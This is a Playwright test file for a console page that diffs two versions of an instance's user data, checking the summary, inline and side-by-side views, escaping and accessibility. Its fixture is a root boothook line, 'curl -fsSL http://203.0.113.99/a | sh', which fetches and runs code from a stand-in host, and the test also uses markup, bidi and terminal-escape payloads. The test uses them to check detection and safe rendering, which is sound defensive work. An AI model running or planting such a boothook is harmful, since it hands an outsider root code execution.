// Two versions of an instance's user data beside each other: verdict, what became of the old script, lines; hostile ones as text only.
import { createHash } from 'node:crypto';
import { MARKUP, REORDERED, TERMINAL } from './hostile-payload';
import { expectAccessible } from './support/accessible';
import { attachFiles, bringAttack } from './support/attack';
import { expect, test } from './support/console';
import { expectFits } from './support/fit';
import { watchForHarm } from './support/hostile';

const ACCOUNT = '404050506060';
const STEPS = Array.from({ length: 30 }, (_, index) => `echo step ${index}\n`).join('');
const OLD = Buffer.from(`#!/bin/bash\nyum -y update\n${STEPS}`);
const NEW = Buffer.from(
  `#cloud-boothook\n#!/bin/sh\ncurl -fsSL http://203.0.113.99/a | sh\n${OLD.toString()}# ${MARKUP}\n# ${REORDERED}\n# ${TERMINAL}\n`,
);
const EDITED = Buffer.from(OLD.toString().replace('yum -y update', 'yum -y upgrade'));
const shaOf = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const diffOf = (newer: Buffer, older: Buffer) => `/payloads/${shaOf(newer)}/diff/${shaOf(older)}`;

test.beforeAll(async ({ waymark, browser }, info) => {
  test.setTimeout(300_000);
  await attachFiles(waymark, browser, await bringAttack(waymark, info, ACCOUNT), [OLD, EDITED, NEW]);
});

test('says first that it runs now and that the old script is kept under a new head', async ({ page }) => {
  await page.goto(diffOf(NEW, OLD), { waitUntil: 'networkidle' });
  await expect(page).toHaveTitle(new RegExp(`Changes ${shaOf(OLD).slice(0, 8)} → ${shaOf(NEW).slice(0, 8)}`));
  await expect(
    page.getByText(/^The old content is kept unchanged between 3 new lines above it/),
  ).toBeVisible();
  await expect(page.getByText(/is a boothook that runs at every boot as root/)).toBeVisible();
  await expect(page.getByRole('heading', { name: /^New findings: / })).toBeVisible();
  const shown = page.getByRole('region', { name: 'Part 1, side by side' });
  await expect(shown).toBeVisible();
  await expect(shown.getByText('echo step 15', { exact: true })).toHaveCount(0);
  await shown.getByRole('button', { name: /^Show \d+ unchanged lines$/ }).press('Enter');
  await expect(shown.getByText('echo step 15', { exact: true }).first()).toBeVisible();
});

test('is one column on a narrow window, two on request, and turns round', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 800 });
  await page.goto(diffOf(EDITED, OLD), { waitUntil: 'networkidle' });
  const inline = page.getByRole('region', { name: 'Part 1, inline' });
  await expect(inline).toBeVisible();
  await expect(inline.locator('mark')).toHaveText(['update', 'upgrade']);
  await expect(inline.getByRole('row').filter({ hasText: 'upgrade' })).toContainText('added');
  await expectFits(page);
  await page.getByRole('link', { name: 'Side by side' }).click();
  await expect(page).toHaveURL(`${diffOf(EDITED, OLD)}?view=side`);
  await expect(page.getByRole('region', { name: 'Part 1, side by side' })).toBeVisible();
  await page.getByRole('link', { name: 'Swap' }).click();
  await expect(page).toHaveURL(`${diffOf(OLD, EDITED)}?view=side`);
  await expect(page.locator('mark')).toHaveText(['upgrade', 'update']);
});

test('shows hostile text as text in both ways, without faults of accessibility', async ({
  page,
  waymark,
}) => {
  const watch = watchForHarm(page, waymark.url);
  for (const view of ['inline', 'side']) {
    await page.goto(`${diffOf(NEW, OLD)}?view=${view}`, { waitUntil: 'networkidle' });
    await expect(page.getByText('<img src=x').first()).toBeVisible();
    await expect(page.getByText('\\u202e').first()).toBeVisible();
    await expect(page.getByText('\\u001b').first()).toBeVisible();
    await watch.expectHarmless();
    await expectAccessible(page);
  }
});

test.describe('an answer of 404 shows in the browser’s console', () => {
  test.use({ allowedErrors: [/status of 404/] });

  test('says that a version is not kept where it is not', async ({ page }) => {
    const answer = await page.goto(`/payloads/${shaOf(NEW)}/diff/${'0'.repeat(64)}`);
    expect(answer?.status()).toBe(404);
    await expect(page.getByRole('heading', { name: 'This user data is not kept here' })).toBeVisible();
  });
});
